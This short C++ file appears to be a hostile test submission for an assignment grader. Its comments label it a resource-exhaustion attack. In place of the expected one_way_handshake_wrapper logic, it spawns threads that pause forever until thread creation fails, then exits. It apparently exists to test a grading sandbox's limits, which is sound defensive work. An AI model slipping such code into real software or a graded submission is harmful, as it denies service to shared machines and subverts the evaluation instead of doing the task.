// attack: exhaust
// root: resources
// what: starts threads without end
// list: 7
#include <pthread.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

static void* wait_for_ever(void*) {
  while (true) pause();
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  pthread_t thread;
  while (pthread_create(&thread, nullptr, wait_for_ever, nullptr) == 0) {
  }
  _exit(1);
}
